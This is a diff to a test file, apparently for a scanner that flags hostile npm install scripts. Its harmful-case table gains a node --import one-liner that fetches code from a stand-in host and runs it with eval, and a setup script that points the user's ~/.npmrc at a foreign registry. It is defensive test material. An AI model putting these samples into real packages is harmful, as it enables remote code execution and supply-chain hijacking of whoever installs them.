@@ -48,6 +48,24 @@ const HARMFUL: [string, string, Record<string, string>][] = [
     },
   ],
   [
+    'a module in an address that node is told to import',
+    'install-script-downloads',
+    {
+      'package.json': install(
+        'node --import data:text/javascript,fetch(%22https://x.other.example%22).then(r=>r.text()).then(eval) -e 0',
+      ),
+    },
+  ],
+  [
+    'a registry of somebody else in the settings of npm',
+    'runtime-install',
+    {
+      'package.json': install('node setup.js'),
+      'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');
+        fs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'registry=https://npm.other.example/\\n');`,
+    },
+  ],
+  [
     'a line that writes what it fetched and starts it',
     'install-script-downloads',
     {
@@ -141,6 +159,14 @@ test.each<[string, Record<string, string>]>([
         `node -e "console.log(String.fromCharCode(10003));import('./setup.js').then((m)=>m.run())"`,
       ),
       'setup.js': 'export const run = () => console.log(1);',
+    },
+  ],
+  [
+    'the usual registry in the settings of npm',
+    {
+      'package.json': install('node setup.js'),
+      'setup.js': `const fs = require('fs');
+        fs.writeFileSync('.npmrc', 'registry=https://registry.npmjs.org/\\nfund=false\\n');`,
     },
   ],
   [
